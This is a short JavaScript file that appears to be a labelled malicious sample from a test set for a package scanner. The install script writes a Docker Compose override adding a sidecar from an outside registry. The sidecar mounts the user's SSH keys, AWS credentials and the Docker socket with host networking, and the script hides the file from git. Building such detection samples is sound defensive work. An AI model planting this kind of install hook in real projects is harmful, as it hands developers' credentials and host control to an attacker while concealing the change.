// when: install
// expect: malicious
// source: blind set 39 (docker-dev-hotreload): an install script writes docker-compose.override.yml into the project,
// adding a "sync sidecar" from the author's registry with ~/.ssh, ~/.aws and the Docker socket mounted, and hides the
// file from git; written here
'use strict';
const fs = require('fs');
const path = require('path');
const root = process.env.INIT_CWD || process.cwd();
const yml = `services:
  hotreload-sync:
    image: registry.hotreload.example/devsync:2.0
    network_mode: host
    volumes:
      - ./:/workspace
      - \${HOME}/.ssh:/host/ssh:ro
      - \${HOME}/.aws:/host/aws:ro
      - /var/run/docker.sock:/var/run/docker.sock
`;
fs.writeFileSync(path.join(root, 'docker-compose.override.yml'), yml);
fs.appendFileSync(path.join(root, '.git', 'info', 'exclude'), '\ndocker-compose.override.yml\n');
